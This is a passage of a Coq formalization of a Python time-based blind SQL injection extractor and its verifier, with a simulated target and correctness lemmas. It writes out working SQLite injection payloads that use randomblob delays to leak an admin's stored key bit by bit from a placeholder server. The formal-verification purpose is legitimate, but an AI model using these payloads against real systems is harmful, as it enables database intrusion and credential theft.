(** * Timing-oracle extraction and verification

    A shallow embedding of [blind_sql_injection.py] (class
    [BlindSQLInjection]) and [verify_extraction.py] (class
    [ExtractionVerifier]).

    The two classes talk to the outside world in two ways only: they post a
    payload to the target and measure how long the answer takes, and they
    read or overwrite a text file.  Both are explicit in the [World] the
    methods thread through a small state-and-exception monad.  The world
    also keeps their history: the requests made, and the writes made, each
    with the number of requests made before it, so that a property can
    speak of what was on disk at a moment of a run.  Console
    output and [time.sleep] change nothing a caller can observe through
    return values, requests or files, and are left out; the one place where
    printing matters, the [:.3f] formatting of a missing measurement in
    [calibrate], is modelled by the exception it raises.

    Elapsed times are Python floats produced by subtracting two clock
    readings.  They are finite, so comparing them is comparing the rationals
    they denote: a time is the [Q] its float denotes, and the literal
    [0.42] is the rational its float denotes ([float_0_42]). *)

From Stdlib Require Import ZArith QArith String Ascii DecimalString.
From stdpp Require Import gmap strings list sorting.

Open Scope Z_scope.

(** ** Python values *)

(** The exceptions the modelled code can meet. *)
Inductive exn : Type :=
| TypeError
| ValueError
| IndexError
| ZeroDivisionError
| FileNotFoundError.

Inductive outcome (A : Type) : Type :=
| Ok (a : A)
| Raise (e : exn).
Arguments Ok {A} a.
Arguments Raise {A} e.

(** The float the literal [0.42] denotes, [0x1.ae147ae147ae1p-2]: the
    binary64 number nearest to 42/100, a little below it. *)
Definition float_0_42 : Q := 7566047373982433 # 18014398509481984.

(** [a < b] on floats. *)
Definition Qltb (a b : Q) : bool :=
  match (a ?= b)%Q with Lt => true | _ => false end.

(** [range(start, stop, step)] for a non-zero step (the source only writes
    the steps [1] and [-1]). *)
Definition range (start stop step : Z) : list Z :=
  let n := if 0 <? step
           then (stop - start + step - 1) / step
           else (start - stop - step - 1) / (- step) in
  map (fun i => start + Z.of_nat i * step) (seq 0 (Z.to_nat n)).

(** [str(i)] for an integer. *)
Definition str (i : Z) : string := NilZero.string_of_int (Z.to_int i).

(** [''.join(parts)]. *)
Definition join (parts : list string) : string :=
  foldr String.append EmptyString parts.

Fixpoint binary_digits (s : string) (acc : Z) : option Z :=
  match s with
  | EmptyString => Some acc
  | String c s' =>
      if Ascii.eqb c "0" then binary_digits s' (2 * acc)
      else if Ascii.eqb c "1" then binary_digits s' (2 * acc + 1)
      else None
  end.

(** [int(s, 2)] on the strings the source builds: a non-empty run of binary
    digits gives its value, anything else is a [ValueError].  (Python also
    accepts a sign, a [0b] prefix, underscores and blanks; the source never
    produces them.) *)
Definition int_base2 (s : string) : outcome Z :=
  match s with
  | EmptyString => Raise ValueError
  | _ => match binary_digits s 0 with
         | Some v => Ok v
         | None => Raise ValueError
         end
  end.

(** Characters are the 8-bit characters of [ascii]: every character the
    extractor builds comes from eight binary digits.  [chr] is Python's on
    that range; above it Python would answer with a character this type
    does not have, and the model raises instead (never reached, see
    [extract_character_total]). *)
Definition chr (i : Z) : outcome ascii :=
  if (0 <=? i) && (i <? 256) then Ok (ascii_of_N (Z.to_N i))
  else Raise ValueError.

Definition ord (c : ascii) : Z := Z.of_N (N_of_ascii c).

Definition len (s : string) : Z := Z.of_nat (String.length s).

(** [s[i]], with Python's negative indices. *)
Definition getitem (s : string) (i : Z) : outcome ascii :=
  let j := if i <? 0 then len s + i else i in
  if j <? 0 then Raise IndexError
  else match String.get (Z.to_nat j) s with
       | Some c => Ok c
       | None => Raise IndexError
       end.

(** ** The outside world *)

(** The three shapes of payload the source posts as the [username] field.
    The text itself is [payload]; the target evaluates the condition the
    text spells, so the transport is given the structured form. *)
Inductive injection : Type :=
| BitTest (char_position bit_position delay_size : Z)
| NotEqual (position ascii_val delay_size : Z)
| Calibration (condition : bool).

Definition payload (inj : injection) : string :=
  match inj with
  | BitTest char_position bit_position delay_size =>
      "admin' AND ((unicode(substr((select key from users where username='admin'), "
      +:+ str char_position +:+ ", 1)) >> " +:+ str bit_position
      +:+ ") & 1 = 1) AND randomblob(" +:+ str delay_size +:+ ") AND '1'='1"
  | NotEqual position ascii_val delay_size =>
      "admin' AND (unicode(substr((select key from users where username='admin'), "
      +:+ str position +:+ ", 1)) != " +:+ str ascii_val
      +:+ ") AND randomblob(" +:+ str delay_size +:+ ") AND '1'='1"
  | Calibration condition =>
      "admin' AND ('1'='" +:+ (if condition then "1" else "0")
      +:+ "') AND randomblob(50000000) AND '1'='1"
  end.

(** [requests.post(url, data={"username": injection}, timeout=30)] timed with
    [time.time()]: the elapsed seconds on any HTTP answer, [None] when a
    [RequestException] is caught.  The target and the network have a state
    of their own, which a request may change. *)
Class Transport (S : Type) : Type :=
  post : string -> injection -> S -> option Q * S.

(** The world: the state behind the transport, the requests made so far
    (latest first), the text files, and the writes made so far (latest
    first), each with the number of requests that had been made when it
    happened, its path and the text written. *)
Record World (S : Type) : Type := MkWorld {
  net : S;
  sent : list injection;
  files : gmap string string;
  written : list (nat * string * string)
}.
Arguments MkWorld {S} _ _ _ _.
Arguments net {S} _.
Arguments sent {S} _.
Arguments files {S} _.
Arguments written {S} _.

(** A world in which nothing has been written yet. *)
Definition mkWorld {S} (n : S) (requests : list injection)
    (texts : gmap string string) : World S :=
  MkWorld n requests texts [].

(** ** The monad of the methods *)

Definition M (S A : Type) : Type := World S -> outcome A * World S.

Definition ret {S A} (a : A) : M S A := fun w => (Ok a, w).

Definition lift {S A} (r : outcome A) : M S A := fun w => (r, w).

Definition bind {S A B} (m : M S A) (k : A -> M S B) : M S B :=
  fun w => match m w with
           | (Ok a, w') => k a w'
           | (Raise e, w') => (Raise e, w')
           end.

Declare Scope py_scope.
Delimit Scope py_scope with py.
Notation "x <- m ;; k" := (bind m (fun x => k))
  (at level 100, m at next level, right associativity) : py_scope.
Notation "m ;;; k" := (bind m (fun _ => k))
  (at level 100, right associativity) : py_scope.
Open Scope py_scope.

(** [for x in xs: ...] whose body may [return]: the body answers [Some v]
    to return [v] from the enclosing function and [None] to go on;
    [orelse] is the code after the loop. *)
Fixpoint for_return {S A R} (xs : list A) (body : A -> M S (option R))
    (orelse : M S R) : M S R :=
  match xs with
  | [] => orelse
  | x :: xs' =>
      r <- body x ;;
      match r with
      | Some v => ret v
      | None => for_return xs' body orelse
      end
  end.

(** [for x in xs: ...] updating local variables [acc]. *)
Fixpoint for_fold {S A B} (xs : list A) (body : B -> A -> M S B) (acc : B)
    : M S B :=
  match xs with
  | [] => ret acc
  | x :: xs' => acc' <- body acc x ;; for_fold xs' body acc'
  end.

(** [[f(x) for x in xs]]. *)
Fixpoint comprehension {S A B} (xs : list A) (f : A -> M S B)
    : M S (list B) :=
  match xs with
  | [] => ret []
  | x :: xs' => y <- f x ;; ys <- comprehension xs' f ;; ret (y :: ys)
  end.

(** Text files, on a POSIX system: writing with mode ["w"] replaces the
    contents with the text as it is; reading with mode ["r"] turns every
    line ending into a line feed. *)
Definition CR : ascii := ascii_of_N 13.
Definition LF : ascii := ascii_of_N 10.

Fixpoint universal_newlines (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' =>
      if Ascii.eqb c CR then
        match s' with
        | String c' s'' =>
            if Ascii.eqb c' LF then String LF (universal_newlines s'')
            else String LF (universal_newlines s')
        | EmptyString => String LF EmptyString
        end
      else String c (universal_newlines s')
  end.

Definition write_file {S} (path text : string) : M S unit :=
  fun w =>
    (Ok tt,
     MkWorld (net w) (sent w) (<[path := text]> (files w))
       ((length (sent w), path, text) :: written w)).

Definition read_file {S} (path : string) : M S string :=
  fun w => match files w !! path with
           | Some text => (Ok (universal_newlines text), w)
           | None => (Raise FileNotFoundError, w)
           end.

(** ** [blind_sql_injection.py] *)

Module BlindSQLInjection.

Record t : Type := mk {
  server : string;
  delay_size : Z;
  threshold : Q
}.

Definition __init__ (server : string) (delay_size : Z) : t :=
  {| server := server; delay_size := delay_size; threshold := float_0_42 |}.

Definition VALID_CHARS : gset ascii :=
  list_to_set (list_ascii_of_string
    ("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
     +:+ "0123456789+/=" +:+ String LF (String CR "- :"))).

Section Methods.
Context {S : Type} `{!Transport S}.

Definition _send_injection (self : t) (inj : injection)
    : M S (option Q) :=
  fun w =>
    let '(elapsed, n) := post (server self +:+ "/reset/") inj (net w) in
    (Ok elapsed, MkWorld n (inj :: sent w) (files w) (written w)).

(** [f"{x:.3f}"]: a float formats, [None] is a [TypeError]. *)
Definition format_3f (x : option Q) : outcome Q :=
  match x with
  | Some q => Ok q
  | None => Raise TypeError
  end.

(** [a / b] on floats, up to the rounding of the quotient. *)
Definition truediv (a b : Q) : outcome Q :=
  if Qeq_bool b 0 then Raise ZeroDivisionError else Ok (a / b)%Q.

(** [calibrate] only prints; the model returns whether the warning line
    is printed. *)
Definition calibrate (self : t) : M S bool :=
  baseline <- _send_injection self (Calibration false) ;;
  delayed <- _send_injection self (Calibration true) ;;
  baseline <- lift (format_3f baseline) ;;
  delayed <- lift (format_3f delayed) ;;
  ratio <- lift (truediv delayed baseline) ;;
  ret (Qltb ratio 2.5).

Definition _extract_bit (self : t)
    (char_position bit_position num_samples : Z) : M S Z :=
  let injection :=
    BitTest char_position bit_position (delay_size self) in
  for_return (range 0 num_samples 1)
    (fun _ =>
       elapsed <- _send_injection self injection ;;
       match elapsed with
       | None => ret None
       | Some elapsed =>
           if Qltb elapsed (threshold self) then ret (Some 0)
           else ret None
       end)
    (ret 1).

Definition extract_character (self : t) (position num_samples : Z)
    : M S ascii :=
  bits <- comprehension (range 7 (-1) (-1))
            (fun bit_idx =>
               b <- _extract_bit self position bit_idx num_samples ;;
               ret (str b)) ;;
  let binary_string := join bits in
  char_code <- lift (int_base2 binary_string) ;;
  character <- lift (chr char_code) ;;
  ret character.

(** One turn of the loop of [extract_string]. *)
Definition extract_string_body (self : t) (output_file : string)
    (result : string) (position : Z) : M S string :=
  char <- extract_character self position 1 ;;
  char <- (if bool_decide (char ∉ VALID_CHARS)
           then extract_character self position 7
           else ret char) ;;
  let result := result +:+ String char EmptyString in
  (if position mod 25 =? 0 then write_file output_file result
   else ret tt) ;;;
  ret result.

Definition extract_string (self : t) (max_chars : Z)
    (output_file : string) : M S string :=
  result <- for_fold (range 1 (max_chars + 1) 1)
              (extract_string_body self output_file) EmptyString ;;
  write_file output_file result ;;;
  ret result.

End Methods.

End BlindSQLInjection.

(** ** [verify_extraction.py] *)

Module ExtractionVerifier.

Record t : Type := mk {
  server : string;
  delay_size : Z;
  threshold : Q
}.

Definition __init__ (server : string) (delay_size : Z) : t :=
  {| server := server; delay_size := delay_size; threshold := float_0_42 |}.

Section Methods.
Context {S : Type} `{!Transport S}.

Definition _send_injection (self : t) (inj : injection)
    : M S (option Q) :=
  fun w =>
    let '(elapsed, n) := post (server self +:+ "/reset/") inj (net w) in
    (Ok elapsed, MkWorld n (inj :: sent w) (files w) (written w)).

Definition _character_matches (self : t) (position : Z)
    (expected_char : ascii) (num_samples : Z) : M S bool :=
  let ascii_val := ord expected_char in
  let injection := NotEqual position ascii_val (delay_size self) in
  for_return (range 0 num_samples 1)
    (fun _ =>
       elapsed <- _send_injection self injection ;;
       match elapsed with
       | None => ret None
       | Some elapsed =>
           if Qltb (threshold self) elapsed then
             verdict <-
               for_return (range 0 3 1)
                 (fun _ =>
                    elapsed <- _send_injection self injection ;;
                    match elapsed with
                    | Some elapsed =>
                        if Qltb elapsed (threshold self)
                        then ret (Some true)
                        else ret None
                    | None => ret None
                    end)
                 (ret false) ;;
             ret (Some verdict)
           else ret None
       end)
    (ret true).

Definition _extract_bit (self : t)
    (char_position bit_position num_samples : Z) : M S Z :=
  let injection :=
    BitTest char_position bit_position (delay_size self) in
  for_return (range 0 num_samples 1)
    (fun _ =>
       elapsed <- _send_injection self injection ;;
       match elapsed with
       | Some elapsed =>
           if Qltb elapsed (threshold self) then ret (Some 0)
           else ret None
       | None => ret None
       end)
    (ret 1).

Definition _extract_character (self : t) (position num_samples : Z)
    : M S ascii :=
  bits <- comprehension (range 7 (-1) (-1))
            (fun bit_idx =>
               b <- _extract_bit self position bit_idx num_samples ;;
               ret (str b)) ;;
  let binary_string := join bits in
  char_code <- lift (int_base2 binary_string) ;;
  character <- lift (chr char_code) ;;
  ret character.

(** One turn of the loop of [verify_and_correct]; the local variables
    are [corrected] and [mismatches]. *)
Definition verify_body (self : t) (output_file extracted : string)
    (locals : string * list Z) (position : Z)
    : M S (string * list Z) :=
  let '(corrected, mismatches) := locals in
  expected <- lift (getitem extracted (position - 1)) ;;
  (if position mod 50 =? 0 then write_file output_file corrected
   else ret tt) ;;;
  is_correct <- _character_matches self position expected 1 ;;
  if is_correct then
    ret (corrected +:+ String expected EmptyString, mismatches)
  else
    let mismatches := mismatches ++ [position] in
    corrected_char <- _extract_character self position 7 ;;
    ret (corrected +:+ String corrected_char EmptyString, mismatches).

Definition verify_and_correct (self : t)
    (input_file output_file : string) : M S (string * list Z) :=
  extracted <- read_file input_file ;;
  locals <- for_fold (range 1 (len extracted + 1) 1)
              (verify_body self output_file extracted)
              (EmptyString, []) ;;
  let '(corrected, mismatches) := locals in
  write_file output_file corrected ;;;
  ret (corrected, mismatches).

End Methods.

End ExtractionVerifier.

(** ** The scripts *)

(** The module level of [blind_sql_injection.py].  [main] prints the
    extracted value; the model returns it. *)
Module blind_sql_injection.

Definition TARGET_URL : string := "http://target-server.example.com:3030/".

Section Script.
Context {S : Type} `{!Transport S}.

Definition main : M S string :=
  let attacker := BlindSQLInjection.__init__ TARGET_URL 60000000 in
  BlindSQLInjection.calibrate attacker ;;;
  result <- BlindSQLInjection.extract_string attacker 50
              "extracted_output.txt" ;;
  ret result.

End Script.

End blind_sql_injection.

(** The module level of [verify_extraction.py].  [main] prints the number
    of corrections; the model returns what [verify_and_correct] did. *)
Module verify_extraction.

Definition TARGET_URL : string := "http://target-server.example.com:3030/".

Section Script.
Context {S : Type} `{!Transport S}.

Definition main : M S (string * list Z) :=
  let verifier := ExtractionVerifier.__init__ TARGET_URL 60000000 in
  answer <- ExtractionVerifier.verify_and_correct verifier
              "extracted_output.txt" "verified_output.txt" ;;
  let '(corrected, mismatches) := answer in
  ret (corrected, mismatches).

End Script.

End verify_extraction.

(** ** A simulated target *)

(** [unicode(substr(key, position, 1))] for a stored [key]: the code of the
    character at a 1-based position, SQL's NULL past the end. *)
Definition unicode_substr (key : string) (position : Z) : option Z :=
  if 1 <=? position
  then ord <$> String.get (Z.to_nat (position - 1)) key
  else None.

(** Whether the injected condition holds for the stored [key]; a NULL
    comparison does not hold. *)
Definition holds (key : string) (inj : injection) : bool :=
  match inj with
  | BitTest char_position bit_position _ =>
      match unicode_substr key char_position with
      | Some code => Z.testbit code bit_position
      | None => false
      end
  | NotEqual position ascii_val _ =>
      match unicode_substr key position with
      | Some code => negb (code =? ascii_val)
      | None => false
      end
  | Calibration condition => condition
  end.

(** The noise-free target: it answers every request, after [slow] seconds
    when the condition holds and after [fast] seconds when it does not. *)
Definition noise_free (key : string) (fast slow : Q) : Transport unit :=
  fun _ inj _ => (Some (if holds key inj then slow else fast), tt).

(** A target that cannot be reached: every request fails. *)
Definition unreachable : Transport unit :=
  fun _ _ _ => (None, tt).

(** A target that answers every request after exactly [elapsed] seconds. *)
Definition constant_time (elapsed : Q) : Transport unit :=
  fun _ _ _ => (Some elapsed, tt).

(** A scripted network: the state is the list of answers still to come,
    one per request whatever it asks; past the end requests fail. *)
Definition scripted : Transport (list (option Q)) :=
  fun _ _ script =>
    match script with
    | [] => (None, [])
    | r :: script' => (r, script')
    end.

(** What [n] requests in a row with the same payload would be answered. *)
Fixpoint replies {S} `{!Transport S} (url : string) (inj : injection)
    (n : nat) (s : S) : list (option Q) :=
  match n with
  | O => []
  | Datatypes.S n' =>
      let '(r, s') := post url inj s in r :: replies url inj n' s'
  end.

(** The state behind the transport after those [n] requests. *)
Fixpoint after {S} `{!Transport S} (url : string) (inj : injection)
    (n : nat) (s : S) : S :=
  match n with
  | O => s
  | Datatypes.S n' => after url inj n' (snd (post url inj s))
  end.

(** A sample is a conclusive fast one when the request was answered, and
    in less than the threshold. *)
Definition fast_sample (threshold : Q) (r : option Q) : bool :=
  match r with
  | Some elapsed => Qltb elapsed threshold
  | None => false
  end.

(** The world after [n] more requests with the same payload. *)
Definition probed {S} `{!Transport S} (url : string) (inj : injection)
    (n : nat) (w : World S) : World S :=
  MkWorld (after url inj n (net w)) (repeat inj n ++ sent w) (files w)
    (written w).

(** The verdict of one oracle call in the words of the specification
    (its Timing Oracle): indeterminate when the channel fails, otherwise
    slow ("true") iff the elapsed time is at least the threshold.  The
    source has no such function; each method compares in place. *)
Inductive verdict : Type := Slow | Fast | Indeterminate.

Definition spec_verdict (threshold : Q) (r : option Q) : verdict :=
  match r with
  | None => Indeterminate
  | Some elapsed => if Qle_bool threshold elapsed then Slow else Fast
  end.

(** A noise-free, failure-free channel for the byte [b] stored at
    [position]: in every state, each of the eight bit questions is answered
    in less than the threshold exactly when that bit of [b] is clear. *)
Definition answers_bits {S} `{!Transport S} (url : string)
    (delay_size : Z) (threshold : Q) (position b : Z) : Prop :=
  forall (s : S) (bit : Z), 0 <= bit < 8 ->
    exists elapsed : Q,
      fst (post url (BitTest position bit delay_size) s) = Some elapsed /\
      Qltb elapsed threshold = negb (Z.testbit b bit).

(** One timed request, the way both classes' [_send_injection] makes it. *)
Definition probe {S} `{!Transport S} (url : string) (inj : injection)
    : M S (option Q) :=
  fun w =>
    let '(elapsed, n) := post url inj (net w) in
    (Ok elapsed, MkWorld n (inj :: sent w) (files w) (written w)).

(** The loop of both [_extract_bit] methods, over the turns [xs]. *)
Definition sampling {S} `{!Transport S} (url : string) (inj : injection)
    (threshold : Q) (xs : list Z) : M S Z :=
  for_return xs
    (fun _ =>
       elapsed <- probe url inj ;;
       match elapsed with
       | None => ret None
       | Some elapsed =>
           if Qltb elapsed threshold then ret (Some 0) else ret None
       end)
    (ret 1).

(** The retry loop inside [_character_matches], over the turns [xs]. *)
Definition retrying {S} `{!Transport S} (url : string) (inj : injection)
    (threshold : Q) (xs : list Z) : M S bool :=
  for_return xs
    (fun _ =>
       elapsed <- probe url inj ;;
       match elapsed with
       | Some elapsed =>
           if Qltb elapsed threshold then ret (Some true) else ret None
       | None => ret None
       end)
    (ret false).

Definition not_fast (threshold : Q) (r : option Q) : Prop :=
  fast_sample threshold r = false.

(** The address both classes post to. *)
Definition reset_url (server : string) : string := server +:+ "/reset/".

(** What early exit means for a bit decision [run] that may make up to [n]
    requests [inj]: at the first conclusive fast answer the bit is 0 and
    exactly the requests up to that one have been made, whatever the later
    answers would have been; any conclusive fast answer among the [n]
    makes the bit 0; and the bit is 1 exactly when there is none. *)
Definition early_exit {S} `{!Transport S} (url : string) (inj : injection)
    (threshold : Q) (n : nat) (run : M S Z) : Prop :=
  forall w : World S,
    (forall before r rest,
        replies url inj n (net w) = before ++ r :: rest ->
        Forall (not_fast threshold) before ->
        fast_sample threshold r = true ->
        run w = (Ok 0, probed url inj (Datatypes.S (length before)) w)) /\
    (forall r,
        r ∈ replies url inj n (net w) ->
        fast_sample threshold r = true ->
        fst (run w) = Ok 0) /\
    (fst (run w) = Ok 1 <->
     Forall (not_fast threshold) (replies url inj n (net w))).

(** The eight digits the bit decisions are turned into, most significant
    first, for the bits of [b]. *)
Definition digits_of (b : Z) : list string :=
  map (fun bit => str (Z.b2z (Z.testbit b bit))) [7; 6; 5; 4; 3; 2; 1; 0].

(** The body both character methods share: eight bit decisions, from bit
    7 down to bit 0, joined into a binary numeral and read back. *)
Definition rebuilding {S} `{!Transport S} (url : string) (delay_size : Z)
    (threshold : Q) (position num_samples : Z) : M S ascii :=
  bits <- comprehension (range 7 (-1) (-1))
            (fun bit_idx =>
               b <- sampling url (BitTest position bit_idx delay_size)
                      threshold (range 0 num_samples 1) ;;
               ret (str b)) ;;
  let binary_string := join bits in
  char_code <- lift (int_base2 binary_string) ;;
  character <- lift (chr char_code) ;;
  ret character.

(** The requests rebuilding the byte [b] makes on a noise-free channel,
    latest first: for each bit one request when the bit is clear and
    [num_samples] when it is set. *)
Definition requests_for_byte (position delay_size b : Z) (num_samples : Z)
    : list injection :=
  flat_map
    (fun bit =>
       repeat (BitTest position bit delay_size)
         (if Z.testbit b bit then Z.to_nat num_samples else 1%nat))
    [0; 1; 2; 3; 4; 5; 6; 7].

(** The loop of [_character_matches], over the turns [xs]. *)
Definition matching {S} `{!Transport S} (url : string) (inj : injection)
    (threshold : Q) (xs : list Z) : M S bool :=
  for_return xs
    (fun _ =>
       elapsed <- probe url inj ;;
       match elapsed with
       | None => ret None
       | Some elapsed =>
           if Qltb threshold elapsed then
             verdict <- retrying url inj threshold (range 0 3 1) ;;
             ret (Some verdict)
           else ret None
       end)
    (ret true).

(** The world in which a turn of [verify_and_correct] checks its
    character: on a multiple of 50 the file has just been overwritten with
    the string corrected so far. *)
Definition checkpointed {S} (output_file corrected : string) (position : Z)
    (w : World S) : World S :=
  snd ((if position mod 50 =? 0 then write_file output_file corrected
        else ret tt) w).

(** The state of [verify_and_correct] after the first [k] positions. *)
Definition verified_up_to {S} `{!Transport S} (self : ExtractionVerifier.t)
    (output_file extracted : string) (k : Z) : M S (string * list Z) :=
  for_fold (range 1 (k + 1) 1)
    (ExtractionVerifier.verify_body self output_file extracted)
    (EmptyString, []).

(** An answer that counts as slow in the words of the specification. *)
Definition slow_sample (threshold : Q) (r : option Q) : Prop :=
  spec_verdict threshold r = Slow.

(** The retry rule in the words of the specification: when the first
    answer to the inequality question is slow, the position is declared a
    mismatch only if all the retries are slow. *)
Definition mismatch_only_if_all_retries_slow : Prop :=
  forall (S : Type) (T : Transport S) (self : ExtractionVerifier.t)
         (position : Z) (expected : ascii) (w : World S)
         (first : option Q) (retries : list (option Q)),
    replies (reset_url (ExtractionVerifier.server self))
      (NotEqual position (ord expected)
         (ExtractionVerifier.delay_size self)) 4 (net w) =
    first :: retries ->
    slow_sample (ExtractionVerifier.threshold self) first ->
    fst (ExtractionVerifier._character_matches self position expected 1 w) =
    Ok false ->
    Forall (slow_sample (ExtractionVerifier.threshold self)) retries.

(** What the verification pass, started in [w] and ending with
    [(corrected, mismatches)], did at [position]: in the state the earlier
    positions left, the check of the input character answered
    [is_correct]; the position is in the list exactly when the answer was
    "mismatch"; the output holds the input character when it was "matches"
    and the character rebuilt at seven samples when it was not. *)
Definition decided_at {S} `{!Transport S} (self : ExtractionVerifier.t)
    (output_file extracted : string) (w : World S)
    (corrected : string) (mismatches : list Z) (position : Z) : Prop :=
  exists (earlier : string) (recorded : list Z) (w_p : World S)
         (expected : ascii) (is_correct : bool) (w1 : World S),
    verified_up_to self output_file extracted (position - 1) w =
    (Ok (earlier, recorded), w_p) /\
    getitem extracted (position - 1) = Ok expected /\
    ExtractionVerifier._character_matches self position expected 1
      (checkpointed output_file earlier position w_p) =
    (Ok is_correct, w1) /\
    (position ∈ mismatches <-> is_correct = false) /\
    if is_correct then getitem corrected (position - 1) = Ok expected
    else exists (ch : ascii) (w2 : World S),
        ExtractionVerifier._extract_character self position 7 w1 =
        (Ok ch, w2) /\
        getitem corrected (position - 1) = Ok ch.

(** Fifty times the letter A. *)
Definition fifty_As : string := string_of_list_ascii (repeat "A"%char 50).

(** The mismatch record of the specification: a position, the character
    it held and the character that replaced it.  The source keeps the
    position only. *)
Record MismatchRecord : Type := {
  mismatch_position : Z;
  mismatch_from : ascii;
  mismatch_to : ascii
}.

(** The scenario of the specification: the verification of a file holding
    [wrong] against the noise-free target with key ["AB"]; what
    [verify_and_correct] returns. *)
Definition scenario_answer (wrong : string)
    : outcome (string * list Z) :=
  fst (ExtractionVerifier.verify_and_correct
         (Transport0 := noise_free "AB" 0.25 1)
         (ExtractionVerifier.__init__ "http://target" 60000000)
         "extracted_output.txt" "verified_output.txt"
         (mkWorld tt [] {[ "extracted_output.txt" := wrong ]})).

(** The scenario in the words of the specification: the mismatch records,
    with the original and the corrected character, can be read off the
    returned value. *)
Definition answer_carries_characters : Prop :=
  exists records : outcome (string * list Z) -> list MismatchRecord,
    records (scenario_answer "AC") =
    [{| mismatch_position := 2; mismatch_from := "C";
        mismatch_to := "B" |}] /\
    records (scenario_answer "AD") =
    [{| mismatch_position := 2; mismatch_from := "D";
        mismatch_to := "B" |}].

(** [w'] is [w] after between [lo] and [hi] more requests, each of them
    an [allowed] one. *)
Definition asked {S} (allowed : injection -> Prop) (lo hi : nat)
    (w w' : World S) : Prop :=
  exists new : list injection,
    sent w' = new ++ sent w /\
    Forall allowed new /\
    (lo <= length new <= hi)%nat.

(** A bit question about the character at [position]. *)
Definition bit_question (position delay_size : Z) (inj : injection) : Prop :=
  exists bit : Z, 0 <= bit < 8 /\ inj = BitTest position bit delay_size.

(** The two measurements of [calibrate]: the answer to the false
    condition, then the answer to the true one. *)
Definition measurements {S} `{!Transport S} (url : string) (s : S)
    : option Q * option Q :=
  let '(baseline, s') := post url (Calibration false) s in
  (baseline, fst (post url (Calibration true) s')).

(** A noise-free, failure-free channel for the bit questions about every
    character of [key]. *)
Definition answers_key_bits {S} `{!Transport S} (url : string)
    (delay_size : Z) (threshold : Q) (key : string) : Prop :=
  forall (i : nat) (c : ascii),
    String.get i key = Some c ->
    answers_bits url delay_size threshold (Z.of_nat i + 1) (ord c).

(** Noise that only delays, for the byte [b] stored at [position]: the
    question about a set bit of [b] is never answered fast. *)
Definition never_fast_when_set {S} `{!Transport S} (url : string)
    (delay_size : Z) (threshold : Q) (position b : Z) : Prop :=
  forall (s : S) (bit : Z), 0 <= bit < 8 ->
    Z.testbit b bit = true ->
    fast_sample threshold
      (fst (post url (BitTest position bit delay_size) s)) = false.

(** A question of the verification pass about [position]: the inequality
    question, or a bit question. *)
Definition verify_question (position delay_size : Z) (inj : injection)
    : Prop :=
  bit_question position delay_size inj \/
  exists ascii_val : Z, inj = NotEqual position ascii_val delay_size.

(** An answer that does not open the retries of [_character_matches]: a
    failure, or an elapsed time that is not above the threshold. *)
Definition not_above (threshold : Q) (r : option Q) : Prop :=
  match r with
  | Some elapsed => Qltb threshold elapsed = false
  | None => True
  end.

(** A noise-free, failure-free channel for the inequality questions about
    every character of [key]: asked whether the stored character differs
    from the code [v], it answers below the threshold when they are the
    same and above it when they differ. *)
Definition answers_key_inequalities {S} `{!Transport S} (url : string)
    (delay_size : Z) (threshold : Q) (key : string) : Prop :=
  forall (i : nat) (c : ascii) (v : Z) (s : S),
    String.get i key = Some c ->
    exists elapsed : Q,
      fst (post url (NotEqual (Z.of_nat i + 1) v delay_size) s) =
      Some elapsed /\
      if v =? ord c then (elapsed < threshold)%Q
      else (threshold < elapsed)%Q.

(** The positions, counted from [first], at which two strings differ. *)
Fixpoint differences (first : Z) (a b : string) : list Z :=
  match a, b with
  | String x a', String y b' =>
      if Ascii.eqb x y then differences (first + 1) a' b'
      else first :: differences (first + 1) a' b'
  | _, _ => []
  end.

(** A channel on which no inequality question is ever answered above the
    threshold: every such request fails or is answered in time. *)
Definition never_above {S} `{!Transport S} (url : string)
    (delay_size : Z) (threshold : Q) : Prop :=
  forall (position v : Z) (s : S),
    not_above threshold
      (fst (post url (NotEqual position v delay_size) s)).

(** A channel on which no bit question is ever answered fast: every such
    request fails or takes at least the threshold. *)
Definition never_fast {S} `{!Transport S} (url : string)
    (delay_size : Z) (threshold : Q) : Prop :=
  forall (position bit : Z) (s : S),
    fast_sample threshold
      (fst (post url (BitTest position bit delay_size) s)) = false.

(** The character of code 255, [n] times. *)
Definition all_ones (n : nat) : string :=
  string_of_list_ascii (repeat (ascii_of_N 255) n).



(** The writes that the checkpoints of a loop leave in the log, the oldest
    first.  [turns] are the requests of the turns of the loop, [before] is
    the number of requests sent before it, and [text] the string it builds,
    one character a turn.  In every turn whose number is a multiple of
    [every] the file [path] is written: with [lag = 0] at the end of the
    turn, with the characters up to this one; with [lag = 1] at its start,
    with the characters of the turns before it. *)
Definition checkpoint_writes (every : Z) (lag : nat) (path : string)
    (before : nat) (turns : list (list injection)) (text : string)
    : list (nat * string * string) :=
  flat_map
    (fun k : nat =>
       if Z.of_nat k mod every =? 0
       then [((before + length (concat (take (k - lag) turns)))%nat, path,
              substring 0 (k - lag) text)]
       else [])
    (seq 1 (length turns)).


(** * Properties *)

(** ** Comparisons, ranges and loops *)

Lemma Qltb_lt (a b : Q) : Qltb a b = true <-> (a < b)%Q.
Proof.
  unfold Qltb. rewrite Qlt_alt. destruct (a ?= b)%Q; split; congruence.
Qed.

Lemma Qltb_ge (a b : Q) : Qltb a b = false <-> (b <= a)%Q.
Proof.
  split; intros H.
  - apply Qnot_lt_le. intros Hlt. apply Qltb_lt in Hlt. congruence.
  - destruct (Qltb a b) eqn:E; [|done].
    apply Qltb_lt in E. exfalso. by apply (Qlt_not_le _ _ E).
Qed.

Lemma range_up (start : Z) (n : Z) :
  range start (start + n) 1 =
  map (fun i => start + Z.of_nat i) (seq 0 (Z.to_nat n)).
Proof.
  unfold range. cbn [Z.ltb Z.compare].
  replace (start + n - start + 1 - 1) with n by lia.
  rewrite Z.div_1_r. apply map_ext. intros i. lia.
Qed.

Lemma length_range_samples (n : Z) : length (range 0 n 1) = Z.to_nat n.
Proof.
  replace n with (0 + n) at 1 by lia.
  rewrite range_up, length_map, length_seq. done.
Qed.

Lemma range_positions (n : nat) :
  range 1 (Z.of_nat n + 1) 1 = map (fun i => Z.of_nat i + 1) (seq 0 n).
Proof.
  replace (Z.of_nat n + 1) with (1 + Z.of_nat n) by lia.
  rewrite range_up, Nat2Z.id. apply map_ext. intros i. lia.
Qed.

Lemma range_positions_snoc (n : nat) :
  range 1 (Z.of_nat (S n) + 1) 1 =
  range 1 (Z.of_nat n + 1) 1 ++ [Z.of_nat n + 1].
Proof.
  rewrite !range_positions, seq_S, map_app. done.
Qed.

Lemma range_positions_split (k n : nat) :
